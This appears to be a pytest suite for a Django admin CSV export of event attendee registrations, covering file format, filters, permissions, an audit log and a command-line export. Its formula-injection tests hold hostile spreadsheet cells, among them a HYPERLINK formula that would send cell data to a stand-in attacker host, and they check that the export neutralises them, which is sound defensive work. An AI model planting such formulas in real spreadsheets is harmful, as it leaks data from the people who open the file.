"""Attendee exports: the CSV file, the ways to get it, who may, and the record kept."""

import csv
import datetime
import io
import re
from io import StringIO
from urllib.parse import quote, urlencode

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core.management import CommandError, call_command
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import override
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from registrations.admin.registrations import RegistrationAdmin
from registrations.documents import audit, columns, selection
from registrations.documents import csv as csv_file
from registrations.models import ExportLog, Organisation, Registration
from tests.factories import (
    DelegationFactory,
    EventFactory,
    OrganisationFactory,
    RegistrationFactory,
    SessionFactory,
    StaffUserFactory,
)

pytestmark = pytest.mark.django_db
Status = Registration.Status

CHANGELIST = "admin:registrations_registration_changelist"
EXPORT = "admin:registrations_registration_export"
HEADER = [
    "ID",
    "Status",
    "Honorific",
    "Family name",
    "Given name",
    "Name in Japanese script",
    "Email",
    "Organisation",
    "Organisation kind",
    "Position",
    "Delegation",
    "Role in the delegation",
    "Protocol rank or title",
    "Country",
    "Country code",
    "Category",
    "Sessions",
    "Dietary needs",
    "Accessibility needs",
    "Interpretation",
    "Submitted at",
    "Reviewed at",
    "Reviewed by",
]
COLUMN = {name: place for place, name in enumerate(HEADER)}


@pytest.fixture
def exporter():
    return StaffUserFactory(
        permissions=[
            "registrations.view_registration",
            "registrations.view_session",
            "registrations.export_registration",
        ]
    )


@pytest.fixture
def viewer():
    """Staff who may look at registrations and sessions but not export them."""
    return StaffUserFactory(
        permissions=["registrations.view_registration", "registrations.view_session"]
    )


def csv_rows(rows) -> list[list[str]]:
    """Return typed rows as the CSV file writes their cells."""
    return [[csv_file.text_cell(value) for value in row] for row in rows]


def command_export(event):
    return audit.export_start(
        selection=selection.for_command(event=event, options={}), user=None
    )


def parse(content: bytes) -> list[list[str]]:
    """Return the rows of a CSV file as Excel would read them, header first."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def download(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return parse(b"".join(response.streaming_content))


def export_filtered(client, user, **params):
    client.force_login(user)
    return client.get(f"{reverse(EXPORT)}?{urlencode(params)}")


def ids_in(rows: list[list[str]]) -> list[int]:
    return [int(row[COLUMN["ID"]]) for row in rows[1:]]


def cell(rows: list[list[str]], registration: Registration, column: str) -> str:
    (row,) = [row for row in rows[1:] if row[0] == str(registration.pk)]
    return row[COLUMN[column]]


# The file


def test_the_file_starts_with_a_byte_order_mark_and_readable_headers(client, exporter):
    RegistrationFactory()
    response = export_filtered(client, exporter)
    content = b"".join(response.streaming_content)
    assert content.startswith(b'\xef\xbb\xbf"ID","Status","Honorific","Family name",')
    rows = parse(content)
    assert rows[0] == HEADER
    assert len(rows) == 2
    assert content.endswith(b"\r\n")
    assert b"\n" not in content.replace(b"\r\n", b"")


def test_names_in_japanese_commas_quotes_and_newlines_survive_the_round_trip(
    client, exporter
):
    registration = RegistrationFactory(
        given_name="Hanako",
        family_name='Yamada, "Hana"',
        name_ja="山田 花子",
        position="Counsellor,\nTreaties Division",
        dietary_needs='No pork; "halal" if possible\r\nThank you',
        accessibility_needs="Fauteuil roulant, s’il vous plaît",
    )
    rows = download(export_filtered(client, exporter))
    assert cell(rows, registration, "Family name") == 'Yamada, "Hana"'
    assert cell(rows, registration, "Name in Japanese script") == "山田 花子"
    assert cell(rows, registration, "Position") == "Counsellor,\nTreaties Division"
    assert cell(rows, registration, "Dietary needs") == (
        'No pork; "halal" if possible\r\nThank you'
    )
    assert cell(rows, registration, "Accessibility needs") == (
        "Fauteuil roulant, s’il vous plaît"
    )


def test_every_column_holds_readable_values(client, exporter):
    reviewer = StaffUserFactory(username="tanaka")
    first, second = SessionFactory.create_batch(2)
    registration = RegistrationFactory(
        event=first.event,
        status=Status.APPROVED,
        honorific=Registration.Honorific.EXCELLENCY,
        organisation=OrganisationFactory(
            name="ECPAT International", kind=Organisation.Kind.NGO
        ),
        country="TH",
        category=Registration.Category.NGO,
        interpretation=Registration.Interpretation.INTO_JAPANESE,
        submitted_at=datetime.datetime(2026, 11, 27, 0, 30, tzinfo=datetime.UTC),
        reviewed_at=datetime.datetime(2026, 11, 27, 15, 0, 5, tzinfo=datetime.UTC),
        reviewed_by=reviewer,
        sessions=[second, first],
    )
    rows = download(export_filtered(client, exporter))
    expected = {
        "ID": str(registration.pk),
        "Status": "Approved",
        "Honorific": "H.E.",
        "Organisation": "ECPAT International",
        "Organisation kind": "Non-governmental organisation",
        "Country": "Thailand",
        "Country code": "TH",
        "Category": "Non-governmental organisation",
        "Sessions": f"{first.title}; {second.title}",
        "Interpretation": "Into Japanese",
        "Submitted at": "2026-11-27T09:30:00+09:00",
        "Reviewed at": "2026-11-28T00:00:05+09:00",
        "Reviewed by": "tanaka",
    }
    assert {column: cell(rows, registration, column) for column in expected} == (
        expected
    )


def test_unlisted_organisations_and_missing_values_are_blank_not_none(client, exporter):
    registration = RegistrationFactory(
        organisation=None, organisation_other="Kyodo News", honorific=""
    )
    rows = download(export_filtered(client, exporter))
    assert cell(rows, registration, "Organisation") == "Kyodo News"
    for column in ("Organisation kind", "Honorific", "Sessions", "Reviewed at"):
        assert cell(rows, registration, column) == ""
    assert "None" not in rows[1]


def test_japanese_staff_get_japanese_session_titles_countries_and_organisations():
    session = SessionFactory(title="Protecting victims", title_ja="被害者の保護")
    registration = RegistrationFactory(
        event=session.event,
        country="JP",
        organisation=OrganisationFactory(name="Ministry of Justice", name_ja="法務省"),
        sessions=[session],
    )
    with override("ja"):
        rows = [
            columns.column_headers(),
            *csv_rows(columns.attendee_rows(Registration.objects.all())),
        ]
    assert cell(rows, registration, "Sessions") == "被害者の保護"
    assert cell(rows, registration, "Country") == "日本"
    assert cell(rows, registration, "Organisation") == "法務省"


# Formula injection


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("https://evil.example/?"&A1, "Click")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A9)",
    ],
)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_written_as_text(
    client, exporter, dangerous
):
    registration = RegistrationFactory(
        given_name=dangerous,
        position=dangerous,
        organisation=None,
        organisation_other=dangerous,
    )
    rows = download(export_filtered(client, exporter))
    for column in ("Given name", "Position", "Organisation"):
        assert cell(rows, registration, column) == "'" + dangerous


@pytest.mark.parametrize(
    "ordinary",
    ["Smith-Jones", "O'Neil", "山田", "Ngô Thị Hương", "1 Chome-2-1 Kasumigaseki", ""],
)
def test_ordinary_values_are_left_exactly_as_they_are(client, exporter, ordinary):
    registration = RegistrationFactory(dietary_needs=ordinary)
    rows = download(export_filtered(client, exporter))
    assert cell(rows, registration, "Dietary needs") == ordinary


@pytest.mark.parametrize(
    ("value", "written"),
    [("+81 3 5501 8000", "'+81 3 5501 8000"), ("-", "'-")],
)
def test_phone_numbers_and_a_lone_dash_get_the_quote_too(value, written):
    # No exceptions to the rule: "looks harmless" is how injections get through.
    assert columns.neutralise(value) == written


def is_value_with_quotes_added(written: str, value: str) -> bool:
    """Return whether ``written`` is ``value`` with only apostrophes added."""
    rest = iter(written)
    for character in value:
        for candidate in rest:
            if candidate == character:
                break
            if candidate != "'":
                return False
        else:
            return False
    return all(candidate == "'" for candidate in rest)


def cell_starts(text: str) -> list[str]:
    """Return how every cell an import could cut from ``text`` starts, trimmed.

    An import may split at a line break, a tab or a semicolon, and trim spaces.
    """
    return [piece.lstrip()[:1] for piece in re.split(r"[\n\r\t;]", text)]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (" =1+1", "' =1+1"),  # "Trim spaces" would make it a formula
        ("Ministry;=1+1", "Ministry;'=1+1"),  # split at the semicolon
        ("Ministry\n=2*3", "Ministry\n'=2*3"),
        ("Ministry\t=2*3", "Ministry\t'=2*3"),
        ("Smith;  -Jones", "Smith;'  -Jones"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("＝1+1", "'＝1+1"),  # fullwidth
        ("Opening; keynote", "Opening; keynote"),
    ],
)
def test_every_place_where_a_cell_could_start_is_neutralised(value, written):
    assert columns.neutralise(value) == written


# The database fixtures are untouched by the examples; only text goes through.
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=1)
)
def test_any_text_comes_back_from_the_file_exactly_as_neutralised(values):
    header = [f"Column {number}" for number, _ in enumerate(values)]
    neutralised = [columns.neutralise(value) for value in values]
    content = b"".join(csv_file.csv_bytes(header, [neutralised]))
    assert parse(content) == [header, neutralised]
    for written, value in zip(neutralised, values, strict=True):
        assert is_value_with_quotes_added(written, value)
        assert written[:1] not in columns.FORMULA_TRIGGERS
        assert not set(cell_starts(written)) & columns.FORMULA_TRIGGERS


def spreadsheet_rows(content: bytes, separators: str) -> list[list[str]]:
    """Return the rows a spreadsheet's text import reads, splitting at every one
    of ``separators`` outside quotes (LibreOffice ticks tab, comma and semicolon
    by default) and trimming spaces."""
    text = content.decode("utf-8-sig")
    rows, row, cell, quoted, position = [], [], "", False, 0
    while position < len(text):
        character = text[position]
        if quoted:
            if character == '"' and text[position + 1 : position + 2] == '"':
                cell += '"'
                position += 1
            elif character == '"':
                quoted = False
            else:
                cell += character
        elif character == '"':
            quoted = True
        elif character in separators:
            row.append(cell.strip(" "))
            cell = ""
        elif character in "\r\n":
            if text[position : position + 2] == "\r\n":
                position += 1
            row.append(cell.strip(" "))
            rows.append(row)
            row, cell = [], ""
        else:
            cell += character
        position += 1
    if cell or row:
        row.append(cell.strip(" "))
        rows.append(row)
    return rows


@pytest.mark.parametrize("separators", [",", ",;", ",\t", ",;\t"])
def test_no_import_of_the_file_shifts_a_column_or_evaluates_a_cell(
    client, exporter, separators
):
    event = EventFactory()
    sessions = [
        SessionFactory(event=event, title="Opening; keynote"),
        SessionFactory(event=event, title='=HYPERLINK("http://evil")'),
    ]
    hostile = [
        "Ministry;=1+1",
        "Ministry\n=2*3",
        "Ministry\t=2*3",
        " =1+1",
        "+81 3 5501 8000",
        "Smith; -Jones",
        "＝1+1",
    ]
    for value in hostile:
        RegistrationFactory(
            event=event,
            organisation=None,
            organisation_other=value,
            position=value,
            dietary_needs=value,
            sessions=sessions,
        )
    content = b"".join(export_filtered(client, exporter).streaming_content)
    rows = spreadsheet_rows(content, separators)
    assert len(rows) == len(hostile) + 1
    for row in rows:
        assert len(row) == len(HEADER), row
        for value in row:
            assert value[:1] not in columns.FORMULA_TRIGGERS, value
    # Every field is quoted, so the file also reads back exactly.
    assert all(
        line.startswith('"')
        for line in content.decode("utf-8-sig").split("\r\n")
        if line
    )


# The ways out: filtered list, selected rows, session list


def test_the_filtered_export_holds_exactly_the_changelist_rows_in_its_order(
    client, exporter
):
    event = EventFactory()
    red_cross = OrganisationFactory(name="Red Cross Society")
    for status in (Status.APPROVED, Status.PENDING):
        RegistrationFactory.create_batch(60, event=event, status=status)
        RegistrationFactory.create_batch(
            3, event=event, status=status, organisation=red_cross
        )
    RegistrationFactory(status=Status.APPROVED)  # another event
    client.force_login(exporter)
    for params in (
        {},
        {"status__exact": "approved"},
        {"status__exact": "approved", "event__id__exact": event.pk, "o": "1"},
        {"o": "-6.1"},  # by the number of sessions, an annotation of the admin's
        {"q": "red cross"},
        {"category__exact": "government"},
        {"q": "no such delegate"},
    ):
        query = urlencode(params)
        changelist = client.get(f"{reverse(CHANGELIST)}?{query}").context["cl"]
        shown = list(changelist.queryset.values_list("pk", flat=True))
        rows = download(client.get(f"{reverse(EXPORT)}?{query}"))
        assert ids_in(rows) == shown, params
    # The whole list, not the page the changelist shows.
    everything = ids_in(download(client.get(reverse(EXPORT))))
    assert len(everything) == 127 > RegistrationAdmin.list_per_page


def test_the_changelist_offers_the_filtered_export_with_its_own_filters(
    client, exporter
):
    RegistrationFactory.create_batch(2, status=Status.APPROVED)
    client.force_login(exporter)
    response = client.get(reverse(CHANGELIST), {"status__exact": "approved", "q": "a"})
    link = f"{reverse(EXPORT)}?status__exact=approved&amp;q=a"
    assert f'href="{link}"' in response.content.decode()
    assert "export_selected" in response.content.decode()


def test_bad_filters_send_the_user_back_to_the_changelist_without_exporting(
    client, exporter
):
    response = export_filtered(client, exporter, no_such_field="1")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse(CHANGELIST))
    assert not ExportLog.objects.exists()


def test_the_action_exports_only_the_selected_rows(client, exporter):
    chosen, also_chosen, left_out = RegistrationFactory.create_batch(3)
    client.force_login(exporter)
    response = client.post(
        reverse(CHANGELIST) + "?status__exact=pending",
        {
            "action": "export_selected",
            ACTION_CHECKBOX_NAME: [chosen.pk, also_chosen.pk],
        },
    )
    rows = download(response)
    assert sorted(ids_in(rows)) == sorted([chosen.pk, also_chosen.pk])
    log = ExportLog.objects.get()
    assert log.kind == ExportLog.Kind.SELECTED
    assert log.filters == {
        "status__exact": "pending",
        "selected": sorted([chosen.pk, also_chosen.pk]),
    }
    assert log.row_count == 2
    assert "_selected_" in log.filename


def test_a_session_list_holds_its_approved_attendees_alphabetically(client, exporter):
    session = SessionFactory()
    other_session = SessionFactory(event=session.event)
    attendees = [
        RegistrationFactory(
            event=session.event,
            family_name=family_name,
            status=Status.APPROVED,
            sessions=[session, other_session],
        )
        for family_name in ("Suzuki", "Abe", "Nakamura")
    ]
    RegistrationFactory(event=session.event, status=Status.PENDING, sessions=[session])
    RegistrationFactory(
        event=session.event, status=Status.APPROVED, sessions=[other_session]
    )
    client.force_login(exporter)
    url = reverse("admin:registrations_session_export", args=[session.pk])
    change_page = client.get(
        reverse("admin:registrations_session_change", args=[session.pk])
    )
    assert f'href="{url}"' in change_page.content.decode()

    response = client.get(url)
    rows = download(response)
    by_name = sorted(attendees, key=lambda registration: registration.family_name)
    assert ids_in(rows) == [registration.pk for registration in by_name]
    log = ExportLog.objects.get()
    assert (log.kind, log.event, log.row_count) == (
        ExportLog.Kind.SESSION,
        session.event,
        3,
    )
    assert log.filters == {"session": session.pk, "status": ["approved"]}


def test_a_file_name_in_any_script_survives_the_download_header(client, exporter):
    session = SessionFactory(title="Protección de las víctimas")
    client.force_login(exporter)
    response = client.get(
        reverse("admin:registrations_session_export", args=[session.pk])
    )
    today = timezone.localdate(timezone=columns.EXPORT_TIMEZONE).isoformat()
    filename = (
        f"{session.event.slug}_session-protección-de-las-víctimas-approved_{today}.csv"
    )
    assert response["Content-Disposition"] == (
        f"attachment; filename*=utf-8''{quote(filename)}"
    )
    assert ExportLog.objects.get().filename == filename


def test_the_file_name_names_the_event_the_selection_and_the_date(client, exporter):
    event = EventFactory(slug="apac-human-smuggling-2027")
    RegistrationFactory(event=event, status=Status.APPROVED)
    response = export_filtered(client, exporter, status__exact="approved")
    today = timezone.localdate(timezone=columns.EXPORT_TIMEZONE).isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="apac-human-smuggling-2027_approved_{today}.csv"'
    )


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("", "all"),
        ("status__exact=approved", "approved"),
        ("status__exact=approved&q=Tanaka", "approved-filtered"),
        ("category__exact=press&o=2&p=3", "filtered"),
        ("event__id__exact=4", "all"),
    ],
)
def test_the_changelist_selection_is_named_by_its_filters(query, name):
    assert selection.changelist_name(QueryDict(query)) == name


def test_the_filtered_export_of_several_events_names_no_event(client, exporter):
    RegistrationFactory.create_batch(2)
    export_filtered(client, exporter)
    log = ExportLog.objects.get()
    assert log.event is None
    assert log.filename.startswith("all-events_all_")


# Permission and audit


def test_staff_without_the_export_permission_see_no_export_and_get_403(client, viewer):
    registration = RegistrationFactory(sessions=[SessionFactory()])
    session = registration.sessions.get()
    client.force_login(viewer)
    changelist = client.get(reverse(CHANGELIST)).content.decode()
    assert "export_selected" not in changelist
    assert reverse(EXPORT) not in changelist
    change_page = client.get(
        reverse("admin:registrations_session_change", args=[session.pk])
    ).content.decode()
    session_export = reverse("admin:registrations_session_export", args=[session.pk])
    assert session_export not in change_page

    assert client.get(reverse(EXPORT)).status_code == 403
    assert client.get(session_export).status_code == 403
    refused = client.post(
        reverse(CHANGELIST),
        {"action": "export_selected", ACTION_CHECKBOX_NAME: [registration.pk]},
    )
    assert "Content-Disposition" not in refused
    assert not ExportLog.objects.exists()


def test_every_export_is_recorded_with_who_when_what_and_how_many(client, exporter):
    event = EventFactory()
    RegistrationFactory.create_batch(4, event=event, status=Status.APPROVED)
    RegistrationFactory(event=event, status=Status.PENDING)
    before = timezone.now()
    response = export_filtered(
        client, exporter, status__exact="approved", event__id__exact=event.pk
    )
    b"".join(response.streaming_content)
    log = ExportLog.objects.get()
    assert log.exported_by == exporter
    assert log.exported_at >= before
    assert log.kind == ExportLog.Kind.FILTERED
    assert log.event == event
    assert log.filters == {
        "status__exact": "approved",
        "event__id__exact": str(event.pk),
    }
    assert log.row_count == 4
    assert log.filename == response["Content-Disposition"].split('"')[1]


def test_a_download_broken_off_records_the_rows_that_went_out(monkeypatch):
    monkeypatch.setattr(csv_file, "CHUNK_CHARACTERS", 1)
    RegistrationFactory.create_batch(5)
    export = audit.export_start(
        selection=selection.from_changelist(QueryDict()), user=StaffUserFactory()
    )
    stream = iter(export)
    next(stream)  # the byte-order mark and the header
    next(stream)  # the first row
    next(stream)  # the second row
    stream.close()
    assert ExportLog.objects.get().row_count == 2


def test_the_export_is_on_record_before_its_first_byte(client, exporter):
    RegistrationFactory.create_batch(3)
    response = export_filtered(client, exporter)
    log = ExportLog.objects.get()
    assert log.row_count == 0
    b"".join(response.streaming_content)
    log.refresh_from_db()
    assert log.row_count == 3


def test_the_export_record_is_visible_in_the_admin_and_never_editable(client, exporter):
    auditor = StaffUserFactory(permissions=["registrations.view_exportlog"])
    RegistrationFactory(status=Status.APPROVED)
    response = export_filtered(client, exporter, status__exact="approved")
    b"".join(response.streaming_content)
    log = ExportLog.objects.get()
    client.force_login(auditor)
    listing = client.get(reverse("admin:registrations_exportlog_changelist"))
    assert listing.status_code == 200
    assert log.filename in listing.content.decode()
    detail = client.get(reverse("admin:registrations_exportlog_change", args=[log.pk]))
    assert detail.status_code == 200
    assert "status__exact" in detail.content.decode()
    assert 'name="_save"' not in detail.content.decode()
    assert client.get(reverse("admin:registrations_exportlog_add")).status_code == 403
    delete_url = reverse("admin:registrations_exportlog_delete", args=[log.pk])
    assert client.post(delete_url, {"post": "yes"}).status_code == 403
    assert ExportLog.objects.filter(pk=log.pk).exists()


def test_even_a_superuser_cannot_change_or_delete_an_export_record(client, superuser):
    log = ExportLog.objects.create(kind=ExportLog.Kind.COMMAND, row_count=3)
    client.force_login(superuser)
    change_url = reverse("admin:registrations_exportlog_change", args=[log.pk])
    client.post(change_url, {"row_count": 0, "kind": ExportLog.Kind.FILTERED})
    log.refresh_from_db()
    assert (log.row_count, log.kind) == (3, ExportLog.Kind.COMMAND)
    assert client.get(reverse("admin:registrations_exportlog_add")).status_code == 403


# Streaming: the same queries for 10 rows as for 5,000


# The record; the programme; the rows; the record's row count. On PostgreSQL
# the rows take three: the JIT compiler switched off, their COPY, the JIT as
# it was.
QUERIES_PER_EXPORT = 6 if connection.vendor == "postgresql" else 4


@pytest.mark.parametrize("count", [10, 5_000])
def test_an_export_takes_as_many_queries_whatever_its_size(
    seed, django_assert_num_queries, count
):
    event = seed(count)
    with django_assert_num_queries(QUERIES_PER_EXPORT):
        export = command_export(event)
        rows = parse(b"".join(export))
    assert len(rows) == count + 1
    assert ExportLog.objects.get().row_count == count


def test_the_admin_download_takes_as_many_queries_for_5000_rows_as_for_10(
    client, exporter, seed, django_assert_num_queries
):
    """The changelist adds its own queries (filters, counts), but none per row."""
    client.force_login(exporter)
    seed(10)
    with CaptureQueriesContext(connection) as for_ten:
        assert len(download(client.get(reverse(EXPORT)))) == 11
    seed(4_990)
    with django_assert_num_queries(len(for_ten)):
        assert len(download(client.get(reverse(EXPORT)))) == 5_001


def test_the_admin_download_neither_counts_the_list_nor_reads_a_page_of_it(
    client, exporter
):
    """The changelist checks the filters and gives the order; what it shows is left."""
    RegistrationFactory.create_batch(3, status=Status.APPROVED)
    client.force_login(exporter)
    with CaptureQueriesContext(connection) as queries:
        rows = download(client.get(reverse(EXPORT), {"status__exact": "approved"}))
    assert len(rows) == 4
    statements = [query["sql"].upper() for query in queries.captured_queries]
    assert not [sql for sql in statements if "COUNT(" in sql]
    assert not [sql for sql in statements if "LIMIT 100" in sql]


# The management command


def run(*args, **options) -> bytes:
    out = StringIO()
    call_command("export_attendees", *args, stdout=out, stderr=StringIO(), **options)
    return out.getvalue().encode()


def test_the_command_writes_the_current_events_list_to_standard_output(
    capsysbinary,
):
    past = EventFactory(
        starts_at=timezone.now() - datetime.timedelta(days=400),
        registration_opens_at=timezone.now() - datetime.timedelta(days=500),
    )
    RegistrationFactory(event=past)
    current = EventFactory()
    registrations = RegistrationFactory.create_batch(2, event=current)
    call_command("export_attendees")
    captured = capsysbinary.readouterr()
    rows = parse(captured.out)
    assert rows[0] == HEADER
    assert sorted(ids_in(rows)) == sorted(r.pk for r in registrations)
    assert b"Exported 2 registrations" in captured.err
    log = ExportLog.objects.get()
    assert (log.kind, log.exported_by, log.event, log.row_count) == (
        ExportLog.Kind.COMMAND,
        None,
        current,
        2,
    )


def test_the_command_offers_only_the_formats_an_attendee_list_is_written_in():
    RegistrationFactory(event=EventFactory())
    # A PDF is a list of participants' format (list_of_participants), not this one's.
    with pytest.raises(CommandError, match="invalid choice: 'pdf'"):
        run("--format", "pdf")
    assert not ExportLog.objects.exists()


def test_the_command_writes_the_same_bytes_to_a_file(tmp_path):
    event = EventFactory()
    RegistrationFactory.create_batch(3, event=event)
    target = tmp_path / "attendees.csv"
    call_command("export_attendees", output=str(target), stderr=StringIO())
    content = target.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    assert content == run()
    assert ExportLog.objects.order_by("pk").first().filters == {"output": str(target)}


def test_the_command_filters_by_status_session_and_organisation():
    event = EventFactory(slug="apac")
    session = SessionFactory(event=event)
    unicef = OrganisationFactory(acronym="UNICEF")
    wanted = RegistrationFactory(
        event=event, status=Status.APPROVED, organisation=unicef, sessions=[session]
    )
    waitlisted = RegistrationFactory(
        event=event, status=Status.WAITLISTED, organisation=unicef, sessions=[session]
    )
    RegistrationFactory(event=event, status=Status.APPROVED, sessions=[session])
    RegistrationFactory(event=event, status=Status.PENDING, organisation=unicef)

    rows = parse(
        run(
            "--event=apac",
            "--status=approved,waitlisted",
            f"--session={session.pk}",
            "--organisation=unicef",
        )
    )
    assert sorted(ids_in(rows)) == sorted([wanted.pk, waitlisted.pk])
    repeated = run(
        "--status", "approved", "--status", "waitlisted", "--organisation", unicef.pk
    )
    assert ids_in(parse(repeated)) == ids_in(rows)
    log = ExportLog.objects.order_by("pk").first()
    assert log.filters == {
        "event": "apac",
        "status": ["approved,waitlisted"],
        "session": session.pk,
        "organisation": "unicef",
    }
    session_slug = session.title.lower().replace(" ", "-")
    assert log.filename.startswith(
        f"apac_session-{session_slug}-unicef-approved-waitlisted_"
    )


def test_the_command_writes_in_the_language_asked_for():
    session = SessionFactory(title_ja="開会")
    RegistrationFactory(event=session.event, sessions=[session], country="PH")
    rows = parse(run("--language=ja"))
    assert rows[1][COLUMN["Sessions"]] == "開会"
    assert rows[1][COLUMN["Country"]] == "フィリピン"


def test_the_command_gives_the_same_file_as_the_session_page(client, exporter):
    session = SessionFactory()
    for family_name, status in [
        ("Sato", Status.APPROVED),
        ("Ito", Status.APPROVED),
        ("Abe", Status.PENDING),
    ]:
        RegistrationFactory(
            event=session.event,
            family_name=family_name,
            status=status,
            sessions=[session],
        )
    client.force_login(exporter)
    page = client.get(reverse("admin:registrations_session_export", args=[session.pk]))
    command = run("--status=approved", f"--session={session.pk}")
    assert b"".join(page.streaming_content) == command
    assert [row[COLUMN["Family name"]] for row in parse(command)[1:]] == ["Ito", "Sato"]
    page_log, command_log = ExportLog.objects.order_by("pk")
    assert page_log.filename == command_log.filename


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--event=nowhere"], "No event with the slug 'nowhere'"),
        (["--status=approved,maybe"], "Unknown status maybe; use one of: pending"),
        (["--session=999999"], "has no session with the id 999999"),
        (["--organisation=NOPE"], "No organisation with the id or acronym 'NOPE'"),
        (["--organisation=999999"], "No organisation with the id or acronym"),
        (["--output={missing}/list.csv"], "Cannot write .*missing/list.csv"),
    ],
)
def test_the_command_refuses_bad_options_clearly_and_records_nothing(
    tmp_path, args, message
):
    EventFactory()
    with pytest.raises(CommandError, match=message):
        run(*[arg.format(missing=tmp_path / "missing") for arg in args])
    assert not ExportLog.objects.exists()


def test_the_command_refuses_an_ambiguous_acronym():
    EventFactory()
    OrganisationFactory.create_batch(2, acronym="IOM")
    with pytest.raises(CommandError, match="give the id"):
        run("--organisation=iom")


def test_the_command_needs_an_event():
    with pytest.raises(CommandError, match="load_symposium"):
        run()


def test_a_session_of_another_event_is_refused():
    EventFactory(slug="this-one")
    elsewhere = SessionFactory()
    with pytest.raises(CommandError, match="has no session"):
        run("--event=this-one", f"--session={elsewhere.pk}")


def test_every_filter_of_the_list_is_translated_into_the_same_rows(client, exporter):
    """The export reads the list's address itself; it must agree on every filter."""
    event = EventFactory()
    session = SessionFactory(event=event)
    invited = OrganisationFactory(name="Royal Thai Police", invited=True)
    first = RegistrationFactory(
        event=event,
        country="TH",
        organisation=invited,
        sessions=[session],
        family_name="Suzuki",
        submitted_at=datetime.datetime(2026, 11, 26, 16, 0, tzinfo=datetime.UTC),
    )
    RegistrationFactory(
        event=event,
        country="FR",
        status=Status.APPROVED,
        category=Registration.Category.PRESS,
        family_name="Martin",
        submitted_at=datetime.datetime(2026, 11, 26, 14, 0, tzinfo=datetime.UTC),
    )
    RegistrationFactory(family_name="Suzuki Martin")  # another event
    delegation = DelegationFactory(event=event, organisation=invited)
    Registration.objects.filter(pk=first.pk).update(
        delegation=delegation, delegation_role="head"
    )
    client.force_login(exporter)
    for params in (
        {"country": "TH"},
        {"delegation__id__exact": delegation.pk},
        {"delegation_role__exact": "head"},
        {"session": session.pk},
        {"organisation__id__exact": invited.pk},
        {"organisation__invited__exact": "1"},
        {"organisation__invited__exact": "0"},
        {"category__exact": "press", "event__id__exact": event.pk},
        # 01:00 on 27 November in Tokyo: the list's days are Tokyo's.
        {"submitted_at__year": 2026, "submitted_at__month": 11},
        {
            "submitted_at__year": 2026,
            "submitted_at__month": 11,
            "submitted_at__day": 27,
        },
        {"q": "suzuki martin"},
        {"q": '"suzuki martin"'},
        {"q": "Royal", "o": "2"},
    ):
        query = urlencode(params)
        changelist = client.get(f"{reverse(CHANGELIST)}?{query}").context["cl"]
        shown = list(changelist.queryset.values_list("pk", flat=True))
        assert ids_in(download(client.get(f"{reverse(EXPORT)}?{query}"))) == shown
        assert shown, params
    assert first.pk in ids_in(download(client.get(f"{reverse(EXPORT)}?country=TH")))


@settings(max_examples=2_000, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet="ab =+-@\t\r\n;＝＋－＠\x0b\x1c\u00a0\u3000'", max_size=8))
def test_a_cell_left_as_it_is_is_one_the_formula_rule_leaves_as_it_is(value):
    assert columns.neutralise(value) == columns.CELL_STARTS.sub(r"\1'\2", value)
